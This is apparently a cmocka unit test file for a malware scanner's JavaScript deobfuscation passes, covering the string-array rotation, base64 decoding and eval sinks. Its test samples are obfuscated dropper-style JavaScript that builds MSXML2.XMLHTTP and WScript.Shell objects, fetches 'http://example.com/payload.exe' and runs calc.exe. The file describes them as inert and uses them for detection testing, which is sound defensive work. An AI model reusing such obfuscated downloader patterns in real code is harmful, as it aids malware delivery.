/*
 * test_deobf_js - unit tests for the strarray pass (deobf_js.c): the string array of the
 *                 javascript-obfuscator family resolved statically
 *
 * The sample is written in the classic shape that tool emits with stringArray,
 * rotateStringArray and (second case) stringArrayEncoding 'base64': a hex-escaped array,
 * the push/shift rotation IIFE with its constant, the decoder with `a = a - 0x0`, and
 * calls by hex index. The expected text was worked out by hand (rotation left by 3). The
 * payload is inert (calc, example.com). Negatives: an ordinary array of labels and a
 * library-style lookup give no layer; a megabyte of `=[` inside strings stays linear.
 */
#include <setjmp.h> /* setjmp.h, stdarg.h and stddef.h must precede cmocka.h */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "heur/deobf.h"
#include "lib/buf.h"
#include "lib/xalloc.h"
#include "testouts.h"

static const char *strarray(OUTS *o, const char *in, size_t n)
{
    DEOBF_LIMITS lim = {1u << 20, 8, 40};
    deobf_run("js", in, n, &lim, outs_collect, o);
    const OUT *x = outs_find(o, "strarray");
    return x ? x->data : NULL;
}

/* layer - the output of pass how, or NULL */
static const char *layer(OUTS *o, const char *how, const char *in)
{
    DEOBF_LIMITS lim = {1u << 20, 8, 40};
    deobf_run("js", in, strlen(in), &lim, outs_collect, o);
    const OUT *x = outs_find(o, how);
    return x ? x->data : NULL;
}

static void test_rotated(void **state)
{
    (void)state;
    static const char js[] =
        "var _0x4c2a=['\\x52\\x75\\x6e','WScript.Shell','http://example.com/payload.exe',"
        "'MSXML2.XMLHTTP','GET','open','send','responseBody'];(function(_0x1b5a21,_0x4c2a1f){"
        "var _0x2f2f0f=function(_0x3e1c5f){while(--_0x3e1c5f){_0x1b5a21['push'](_0x1b5a21["
        "'shift']());}};_0x2f2f0f(++_0x4c2a1f);}(_0x4c2a,0x3));var _0x2f2f=function(_0x1b5a21,"
        "_0x4c2a1f){_0x1b5a21=_0x1b5a21-0x0;var _0x2f2f0f=_0x4c2a[_0x1b5a21];return _0x2f2f0f;};"
        "var x=new ActiveXObject(_0x2f2f('0x0'));x[_0x2f2f('0x2')](_0x2f2f('0x1'),_0x2f2f('0x7'),"
        "![]);var s=new ActiveXObject(_0x2f2f('0x6'));s[_0x2f2f('0x5')]('calc.exe',0x0);";
    OUTS o = {0};
    const char *got = strarray(&o, js, sizeof(js) - 1);
    assert_non_null(got);
    assert_non_null(strstr(got, "var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET',"
                                "'http://example.com/payload.exe',![]);var s=new ActiveXObject("
                                "'WScript.Shell');s.Run('calc.exe',0x0);"));
    outs_free(&o);
}

static void test_base64(void **state)
{
    (void)state;
    /* 'V1NjcmlwdC5TaGVsbA==' in the obfuscator's alphabet (lower case first) */
    static const char js[] =
        "var _0xa1=['v1nJCMLWDc5tAgvSBa==','yxjN','Dgvzda=='];var _0xb2=function(_0xc,_0xd){"
        "_0xc=_0xc-0x0;var _0xe=_0xa1[_0xc];if(_0xb2['init']===undefined){var _0xf=function(_0x1)"
        "{var _0x2='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';return "
        "_0x1;};}return _0xe;};new ActiveXObject(_0xb2('0x0'));";
    OUTS o = {0};
    const char *got = strarray(&o, js, sizeof(js) - 1);
    assert_non_null(got);
    assert_non_null(strstr(got, "new ActiveXObject('WScript.Shell');"));
    outs_free(&o);
}

static void test_negative(void **state)
{
    (void)state;
    static const char js[] = "var labels = ['Home', 'About', 'Contact'];\nfunction menu(i) {\n"
                             "  return labels[i];\n}\ndocument.title = menu(0) + labels[0x1];\n";
    OUTS o = {0};
    assert_null(strarray(&o, js, sizeof(js) - 1));
    outs_free(&o);
    BUF *b = buf_new(1 << 20);
    while (b->len < (1u << 20))
        buf_puts(b, "x = ['=[', '=[', '=['");
    assert_null(strarray(&o, b->data, b->len));
    outs_free(&o);
    buf_free(b);
}

/* the eval pass (deobf_eval.c): constant arguments of code sinks become js layers */
static void test_eval(void **state)
{
    (void)state;
    static const struct {
        const char *in, *want; /* want NULL: no eval layer */
    } T[] = {
        {"eval(\"new ActiveXObject('WScript.Shell').Run('calc')\");",
         "new ActiveXObject('WScript.Shell').Run('calc')"},
        {"eval('var s = new Active' + 'XObject(\\'WScript.Shell\\');')",
         "var s = new ActiveXObject('WScript.Shell');"},
        {"new Function('a', 'b', 'return WScript.CreateObject(\"WScript.Shell\")')();",
         "return WScript.CreateObject(\"WScript.Shell\")"},
        {"setTimeout(\"document.location='http://example.invalid/x'\", 100);",
         "document.location='http://example.invalid/x'"},
        {"window[\"eval\"](atob('dmFyIHggPSAiY2FsYyI7'));", "var x = \"calc\";"},
        {"eval(unescape('%61%6c%65%72%74%28%31%29'));", "alert(1)"},
        {"eval(\"\\x61\\x6c\\x65\\x72\\x74(2)\")", "alert(2)"},
        /* nested: the inner constant comes out; the outer is its own layer later */
        {"eval(eval(\"'var x = 1'\"))", "'var x = 1'"},
        /* computed arguments and declarations are not constants */
        {"eval(code); setTimeout(tick, 100); var f = function (a) { return a; };", NULL},
        {"x.evaluate('//a'); retrieval('q'); obj.Functional('x')", NULL},
    };
    for (size_t i = 0; i < sizeof(T) / sizeof(*T); i++) {
        OUTS o = {0};
        const char *got = layer(&o, "eval", T[i].in);
        if (T[i].want == NULL && got != NULL)
            fail_msg("case %zu: unexpected layer '%s'", i, got);
        if (T[i].want && (got == NULL || strcmp(got, T[i].want) != 0))
            fail_msg("case %zu: got '%s', want '%s'", i, got ? got : "(none)", T[i].want);
        outs_free(&o);
    }
    /* linear: a megabyte of unclosed eval( calls */
    BUF *b = buf_new(1 << 20);
    while (b->len < (1u << 20))
        buf_puts(b, "eval('a'+");
    OUTS o = {0};
    layer(&o, "eval", b->data);
    outs_free(&o);
    buf_free(b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_rotated), cmocka_unit_test(test_base64),
        cmocka_unit_test(test_negative), cmocka_unit_test(test_eval)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
